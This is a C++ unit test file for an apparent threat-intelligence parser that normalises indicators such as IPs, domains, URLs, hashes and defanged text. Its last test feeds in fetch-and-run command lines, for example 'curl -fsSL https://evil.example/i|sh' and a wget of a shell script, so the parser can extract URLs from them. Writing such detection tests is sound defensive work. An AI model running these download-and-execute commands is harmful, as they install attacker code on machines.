#include "intelligence/observable.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "intelligence/matcher.h"

namespace picket::intelligence {
namespace {

std::string read(std::string_view text) {
  const auto what = parse_observable(text);
  return what ? std::string(to_string(what->kind)) + " " + to_text(*what) : "nothing";
}

TEST(Observable, AddressesHaveOneSpelling) {
  EXPECT_EQ(read("192.0.2.1"), "ipv4 192.0.2.1");
  EXPECT_EQ(read(" \"192.0.2.1\"\r"), "ipv4 192.0.2.1");
  EXPECT_EQ(read("::ffff:192.0.2.1"), "ipv4 192.0.2.1");
  EXPECT_EQ(read("2001:0DB8:0::1"), "ipv6 2001:db8::1");
  EXPECT_EQ(read("[2001:db8::1]"), "ipv6 2001:db8::1");
  EXPECT_EQ(read("192.0.2.256"), "nothing");
  EXPECT_EQ(read("192.0.2"), "nothing");
}

TEST(Observable, NetworksLoseBitsBehindTheirPrefixAndWholeOnesAreAddresses) {
  EXPECT_EQ(read("192.0.2.77/24"), "network4 192.0.2.0/24");
  EXPECT_EQ(read("192.0.2.77/31"), "network4 192.0.2.76/31");
  EXPECT_EQ(read("192.0.2.77/32"), "ipv4 192.0.2.77");
  EXPECT_EQ(read("192.0.2.77/0"), "network4 0.0.0.0/0");
  EXPECT_EQ(read("2001:db8:ffff::/33"), "network6 2001:db8:8000::/33");
  EXPECT_EQ(read("2001:db8::1/128"), "ipv6 2001:db8::1");
  EXPECT_EQ(read("192.0.2.0/33"), "nothing");
  EXPECT_EQ(read("192.0.2.0/"), "nothing");
}

TEST(Observable, EndpointsNeedAPortThatThereIs) {
  EXPECT_EQ(read("192.0.2.1:4444"), "endpoint4 192.0.2.1:4444");
  EXPECT_EQ(read("[2001:db8::1]:65535"), "endpoint6 [2001:db8::1]:65535");
  EXPECT_EQ(read("192.0.2.1:0"), "nothing");
  EXPECT_EQ(read("192.0.2.1:65536"), "nothing");
}

TEST(Observable, DomainsAreLowerCaseAsciiWithoutDotsAtTheirEnds) {
  EXPECT_EQ(read("Evil.Example."), "domain evil.example");
  EXPECT_EQ(read("*.evil.example"), "domain evil.example");
  EXPECT_EQ(read(".evil.example"), "domain evil.example");
  EXPECT_EQ(read("b\xC3\xBC"
                 "cher.example"),
            "domain xn--bcher-kva.example");
  EXPECT_EQ(read("B\xC3\x9C"
                 "CHER.example"),
            "domain xn--bcher-kva.example");
  EXPECT_EQ(read("_sip._tcp.evil.example"), "domain _sip._tcp.evil.example");
  EXPECT_EQ(read("example"), "nothing") << "one label is a whole top-level domain";
  EXPECT_EQ(read("evil..example"), "nothing");
  EXPECT_EQ(read("evil example"), "nothing");
  EXPECT_EQ(read("1.2.3.4.5"), "nothing");
  EXPECT_EQ(read(std::string(63, 'a') + ".example"), "domain " + std::string(63, 'a') + ".example");
  EXPECT_EQ(read(std::string(64, 'a') + ".example"), "nothing");
}

TEST(Observable, UrlsKeepHostPortPathAndQuery) {
  EXPECT_EQ(read("HTTP://User:pw@Evil.Example:80/a/../b#frag"), "url evil.example/a/../b");
  EXPECT_EQ(read("https://evil.example"), "url evil.example/");
  EXPECT_EQ(read("https://evil.example?x=1"), "url evil.example/?x=1");
  EXPECT_EQ(read("http://evil.example:443/"), "url evil.example:443/") << "not the default port of http";
  EXPECT_EQ(read("http://evil.example/%7euser/%2f%c3"), "url evil.example/~user/%2F%C3");
  EXPECT_EQ(read("http://[2001:DB8::1]:8080/x"), "url [2001:db8::1]:8080/x");
  EXPECT_EQ(read("evil.example/x"), "url evil.example/x");
  EXPECT_EQ(read("evil.example:8080"), "url evil.example:8080/");
  EXPECT_EQ(read("http:///x"), "nothing");
  EXPECT_EQ(read("http://evil.example:99999/"), "nothing");
}

TEST(Observable, PathsThatEveryServerHasSayNothing) {
  EXPECT_EQ(read("/bins/sora.arm7"), "url_path /bins/sora.arm7");
  EXPECT_EQ(read("/x.sh?a=1"), "url_path /x.sh");
  EXPECT_EQ(read("/"), "nothing");
  EXPECT_EQ(read("/abc"), "nothing");
  EXPECT_EQ(read("/index.html"), "nothing");
}

TEST(Observable, DigestsAreToldApartByTheirLength) {
  EXPECT_EQ(read(std::string(64, 'A')), "sha256 " + std::string(64, 'a'));
  EXPECT_EQ(read(std::string(40, 'b')), "sha1 " + std::string(40, 'b'));
  EXPECT_EQ(read(std::string(32, '1')), "md5 " + std::string(32, '1'));
  EXPECT_EQ(read(std::string(33, '1')), "nothing");
  EXPECT_EQ(read("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"), "nothing") << "of an empty file";
  EXPECT_EQ(read("t13d1516h2_8daaf6152771_02713d6af862"), "ja4 t13d1516h2_8daaf6152771_02713d6af862");
  EXPECT_TRUE(parse_digest(Kind::ja3, std::string(32, 'c')));
  EXPECT_FALSE(parse_digest(Kind::ja3, std::string(40, 'c')));
}

TEST(Observable, DefangedTextIsReadAsItWasMeant) {
  EXPECT_EQ(read("hxxp://evil[.]example/x"), "url evil.example/x");
  EXPECT_EQ(read("hXXps[:]//evil(.)example"), "url evil.example/");
  EXPECT_EQ(read("evil[dot]example"), "domain evil.example");
  EXPECT_EQ(read("192[.]0[.]2[.]1"), "ipv4 192.0.2.1");
}

TEST(Observable, EveryKindIsReadBackFromItsText) {
  const Observable all[] = {*parse_observable("192.0.2.1"),
                            *parse_observable("2001:db8::1"),
                            *parse_observable("192.0.2.0/24"),
                            *parse_observable("2001:db8::/32"),
                            *parse_observable("192.0.2.1:53"),
                            *parse_observable("[2001:db8::1]:53"),
                            *parse_observable("evil.example"),
                            *parse_observable("/bins/x.arm"),
                            *parse_observable(std::string(64, 'a')),
                            *parse_digest(Kind::certificate1, std::string(40, 'a')),
                            *parse_digest(Kind::ja3s, std::string(32, 'a'))};
  for (const Observable& what : all) {
    EXPECT_EQ(parse_as(what.kind, to_text(what)), what) << to_text(what);
    EXPECT_EQ(parse_kind(to_string(what.kind)), what.kind);
  }
}

std::vector<std::string> urls(std::string_view line) {
  std::vector<std::string> out;
  for (const Observable& url : urls_in(line)) out.push_back(url.key);
  return out;
}

TEST(UrlsInCommandLines, AreFoundBehindQuotesAndInFetchersArguments) {
  using testing::ElementsAre;
  EXPECT_THAT(urls("sh -c wget 'http://192.0.2.1/x.sh'; sh x.sh"), ElementsAre("192.0.2.1/x.sh"));
  EXPECT_THAT(urls("curl -fsSL https://evil.example/i|sh"), ElementsAre("evil.example/i"));
  EXPECT_THAT(urls("/bin/busybox wget evil.example/bins/a.arm -O /tmp/a"), ElementsAre("evil.example/bins/a.arm"));
  EXPECT_THAT(urls("cat evil.example/readme"), ElementsAre()) << "a file of that name";
  EXPECT_THAT(urls("x --proxy=http://192.0.2.1:3128/"), ElementsAre("192.0.2.1:3128/"));
}

}  // namespace
}  // namespace picket::intelligence
